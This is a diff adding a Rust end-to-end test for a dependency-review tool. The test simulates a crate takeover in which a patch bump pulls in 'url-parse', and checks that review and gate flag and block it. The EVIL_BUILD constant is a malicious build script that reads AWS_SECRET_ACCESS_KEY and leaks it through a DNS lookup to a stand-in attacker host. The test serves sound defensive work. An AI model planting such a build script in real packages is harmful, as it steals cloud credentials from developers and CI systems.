@@ -1,0 +1,302 @@
+//! Fortify end to end: the takeover attack reproduced with a sparse registry on loopback that
+//! the test creates, lockfiles written by real cargo, then `init`, `review` and `gate`.
+//!
+//! `rust-utilities-v2` 2.1.0 -> 2.1.1 adds `url-parse` 0.1.0, whose build script reads
+//! `AWS_SECRET_ACCESS_KEY` and leaks it through a DNS lookup. The crates are written by this
+//! test and never compiled or run.
+
+mod common;
+
+use common::*;
+use std::path::Path;
+use std::process::Command;
+
+const NOW: &str = "2026-11-25T12:00:00Z";
+
+struct Release {
+    name: &'static str,
+    version: &'static str,
+    deps: &'static [(&'static str, &'static str)],
+    pubtime: &'static str,
+    files: Vec<(&'static str, String)>,
+}
+
+const EVIL_BUILD: &str = r#"use std::net::ToSocketAddrs;
+
+fn main() {
+    let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();
+    let label: String = key.bytes().map(|b| format!("{b:02x}")).collect();
+    let _ = format!("{label}.exfil.attacker.invalid:53").to_socket_addrs();
+    println!("cargo:rerun-if-changed=build.rs");
+}
+"#;
+
+fn releases() -> Vec<Release> {
+    let manifest = |name: &str, version: &str, deps: &str| {
+        format!(
+            "[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\nlicense = \"MIT\"\ndescription = \"utilities\"\n{deps}"
+        )
+    };
+    vec![
+        Release {
+            name: "rust-utilities-v2",
+            version: "2.1.0",
+            deps: &[],
+            pubtime: "2024-02-01T10:00:00Z",
+            files: vec![
+                ("Cargo.toml", manifest("rust-utilities-v2", "2.1.0", "")),
+                ("src/lib.rs", "pub fn trim(s: &str) -> &str {\n    s.trim()\n}\n".into()),
+            ],
+        },
+        Release {
+            name: "rust-utilities-v2",
+            version: "2.1.1",
+            deps: &[("url-parse", "^0.1")],
+            pubtime: "2026-11-24T20:00:00Z",
+            files: vec![
+                (
+                    "Cargo.toml",
+                    manifest(
+                        "rust-utilities-v2",
+                        "2.1.1",
+                        "\n[dependencies]\nurl-parse = \"0.1\"\n",
+                    ),
+                ),
+                (
+                    "src/lib.rs",
+                    "pub fn trim(s: &str) -> &str {\n    s.trim()\n}\n\npub use url_parse::parse;\n"
+                        .into(),
+                ),
+            ],
+        },
+        Release {
+            name: "url-parse",
+            version: "0.1.0",
+            deps: &[],
+            pubtime: "2026-11-24T19:30:00Z",
+            files: vec![
+                ("Cargo.toml", manifest("url-parse", "0.1.0", "")),
+                ("build.rs", EVIL_BUILD.into()),
+                ("src/lib.rs", "pub fn parse(s: &str) -> &str {\n    s\n}\n".into()),
+            ],
+        },
+    ]
+}
+
+/// Serves a sparse registry holding `releases` on loopback; returns its URL.
+fn registry(releases: &[Release]) -> String {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}/", listener.local_addr().unwrap());
+    let mut entries: Vec<(String, Vec<u8>)> = vec![(
+        "config.json".into(),
+        format!("{{\"dl\": \"{url}dl\"}}").into_bytes(),
+    )];
+    let mut index: std::collections::BTreeMap<String, String> = Default::default();
+    for r in releases {
+        let files: Vec<(&str, &str)> = r.files.iter().map(|(p, t)| (*p, t.as_str())).collect();
+        let (bytes, sum) = crate_archive(r.name, r.version, &files);
+        let deps: Vec<serde_json::Value> = r
+            .deps
+            .iter()
+            .map(|(n, req)| {
+                serde_json::json!({"name": n, "req": req, "features": [], "optional": false,
+                    "default_features": true, "target": null, "kind": "normal"})
+            })
+            .collect();
+        let line = serde_json::json!({"name": r.name, "vers": r.version, "deps": deps,
+            "cksum": sum, "features": {}, "yanked": false, "pubtime": r.pubtime});
+        index
+            .entry(index_path(r.name))
+            .or_default()
+            .push_str(&format!("{line}\n"));
+        entries.push((format!("dl/{}/{}/download", r.name, r.version), bytes));
+    }
+    entries.extend(index.into_iter().map(|(p, t)| (p, t.into_bytes())));
+    serve_on(listener, entries);
+    url
+}
+
+/// Runs real cargo against `registry` (replacing crates.io), with its own empty CARGO_HOME.
+fn cargo(ws: &Path, home: &Path, registry: &str, args: &[&str]) {
+    std::fs::create_dir_all(home).unwrap();
+    std::fs::write(
+        home.join("config.toml"),
+        format!(
+            "[source.crates-io]\nreplace-with = \"local\"\n\n[source.local]\nregistry = \"sparse+{registry}\"\n"
+        ),
+    )
+    .unwrap();
+    let out = Command::new(std::env::var("CARGO").unwrap_or_else(|_| "cargo".into()))
+        .args(args)
+        .current_dir(ws)
+        .env("CARGO_HOME", home)
+        .env_remove("CARGO_TARGET_DIR")
+        .env("CARGO_NET_RETRY", "0")
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "cargo {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+fn reflex(ws: &Path, registry: &str, args: &[&str]) -> Run {
+    let mut all = args.to_vec();
+    all.extend(["--now", NOW, "--cargo-home", "reflex-cargo-home", "--no-fetch"]);
+    run_with(
+        ws,
+        &all,
+        &[("CARGO_REFLEX_CRATES_IO_INDEX", registry)],
+        None,
+    )
+}
+
+fn signals<'a>(report: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
+    report["review"]["changes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["name"] == name)
+        .unwrap_or_else(|| panic!("no change for {name}: {report:#}"))
+}
+
+#[test]
+fn takeover_bump_is_explained_by_review_and_blocked_by_gate_until_reverted() {
+    let tmp = tempfile::tempdir().unwrap();
+    let ws = tmp.path().join("ws");
+    std::fs::create_dir_all(ws.join("src")).unwrap();
+    std::fs::write(
+        ws.join("Cargo.toml"),
+        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\npublish = false\n\n[dependencies]\nrust-utilities-v2 = \"2.1\"\n",
+    )
+    .unwrap();
+    std::fs::write(ws.join("src/main.rs"), "fn main() {}\n").unwrap();
+    std::fs::write(ws.join(".gitignore"), "/target\n/__home\n/__cache\n/reflex-cargo-home\n").unwrap();
+
+    // Before: the registry has only 2.1.0; cargo writes the lockfile; it is committed.
+    let all = releases();
+    let before = registry(&all[..1]);
+    cargo(&ws, &tmp.path().join("home-before"), &before, &["generate-lockfile"]);
+    let lock = std::fs::read_to_string(ws.join("Cargo.lock")).unwrap();
+    assert!(lock.contains("name = \"rust-utilities-v2\"\nversion = \"2.1.0\""), "{lock}");
+    let full = registry(&all);
+
+    // init: today's graph becomes the baseline; the gate passes on it.
+    let init = reflex(&ws, &full, &["init"]);
+    assert_eq!(init.code, 0, "{}{}", init.stdout, init.stderr);
+    assert!(init.stderr.contains("wrote "), "{}", init.stderr);
+    let policy = std::fs::read_to_string(ws.join("reflex.toml")).unwrap();
+    assert!(policy.contains("min-age-days = 3") && policy.contains("require-approval = true"));
+    git(&ws, &["init", "-q", "-b", "main"]);
+    git(&ws, &["add", "-A"]);
+    git(&ws, &["commit", "-q", "-m", "app at rust-utilities-v2 2.1.0"]);
+    let pass = reflex(&ws, &full, &["gate", "--format", "json"]);
+    assert_eq!(pass.code, 0, "the baseline passes: {}{}", pass.stdout, pass.stderr);
+
+    // The bump: the registry now has 2.1.1, which depends on url-parse.
+    cargo(&ws, &tmp.path().join("home-after"), &full, &["update", "-p", "rust-utilities-v2"]);
+    let lock = std::fs::read_to_string(ws.join("Cargo.lock")).unwrap();
+    assert!(lock.contains("name = \"url-parse\""), "{lock}");
+
+    // review explains it.
+    let review = reflex(&ws, &full, &["review", "--format", "json"]);
+    assert_eq!(review.code, 1, "what arrives is high risk: {}", review.stderr);
+
+    let report = json(&review);
+    let changes = report["review"]["changes"].as_array().unwrap();
+    assert_eq!(changes.len(), 2, "{changes:#?}");
+    assert_eq!(changes[0]["name"], "url-parse", "worst first: {changes:#?}");
+    assert_eq!(
+        changes[0]["risk"], "critical",
+        "a new build script that reads secrets and can reach the network: {changes:#?}"
+    );
+    let utils = signals(&report, "rust-utilities-v2");
+    assert_eq!(utils["kind"], "upgraded");
+    assert_eq!(utils["bump"], "patch");
+    assert_eq!(utils["introduces"][0], "url-parse 0.1.0");
+    let parse = signals(&report, "url-parse");
+    assert_eq!(parse["kind"], "added");
+    assert_eq!(parse["moved_by"][0], "rust-utilities-v2 2.1.0 -> 2.1.1");
+    assert_eq!(parse["age_days"], 0);
+    let parse_signals: Vec<&str> = parse["signals"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s.as_str().unwrap())
+        .collect();
+    for code in [
+        "build-time-secret-read",
+        "review-build-script-added",
+        "review-version-young",
+        "review-new-crate",
+    ] {
+        assert!(parse_signals.contains(&code), "{code} in {parse_signals:?}");
+    }
+    let diff = &parse["code"]["diffs"][0];
+    assert_eq!(diff["path"], "build.rs");
+    assert!(
+        diff["unified"]
+            .as_str()
+            .unwrap()
+            .contains("+    let key = std::env::var(\"AWS_SECRET_ACCESS_KEY\")"),
+        "{diff:#}"
+    );
+    assert_eq!(utils["code"]["files_changed"][1]["path"], "src/lib.rs", "{utils:#}");
+    let titles = report["findings"].to_string();
+    assert!(
+        titles.contains("url-parse 0.1.0 enters the graph, added by rust-utilities-v2 2.1.0 -> 2.1.1"),
+        "{titles}"
+    );
+
+    // The Markdown is a PR comment: the change table, then the build script diff.
+    let md = reflex(&ws, &full, &["review", "--format", "markdown"]).stdout;
+    assert!(md.contains("| `rust-utilities-v2 2.1.0 -> 2.1.1` | upgraded (patch) | adds url-parse 0.1.0"), "{md}");
+    assert!(md.contains("```diff") && md.contains("AWS_SECRET_ACCESS_KEY"), "{md}");
+
+    // gate with the policy from init fails, with the reasons.
+    let gate = reflex(&ws, &full, &["gate", "--base", "HEAD", "--format", "json"]);
+    assert_eq!(gate.code, 1, "{}{}", gate.stdout, gate.stderr);
+    let report = json(&gate);
+    let denied: Vec<(String, String)> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["denied"] == true)
+        .map(|f| {
+            (
+                f["code"].as_str().unwrap().to_string(),
+                f["package"]["name"].as_str().unwrap_or("").to_string(),
+            )
+        })
+        .collect();
+    for (code, name) in [
+        ("build-script-not-approved", "url-parse"),
+        ("cooldown-too-young", "url-parse"),
+        ("cooldown-too-young", "rust-utilities-v2"),
+        ("build-time-secret-read", "url-parse"),
+        ("review-build-script-added", "url-parse"),
+    ] {
+        assert!(
+            denied.contains(&(code.to_string(), name.to_string())),
+            "{code} {name} in {denied:?}"
+        );
+    }
+    assert_eq!(report["policy"]["path"], "reflex.toml");
+    let annotations = reflex(&ws, &full, &["gate", "--format", "github"]);
+    assert_eq!(annotations.code, 1);
+    assert!(
+        annotations
+            .stdout
+            .lines()
+            .any(|l| l.starts_with("::error file=Cargo.lock,line=") && l.contains("url-parse")),
+        "{}",
+        annotations.stdout
+    );
+
+    // Reverted: the gate passes again.
+    git(&ws, &["checkout", "--", "Cargo.lock"]);
+    let reverted = reflex(&ws, &full, &["gate", "--base", "HEAD", "--format", "json"]);
+    assert_eq!(reverted.code, 0, "{}{}", reverted.stdout, reverted.stderr);
+    assert_eq!(json(&reverted)["review"]["changes"].as_array().unwrap().len(), 0);
+}
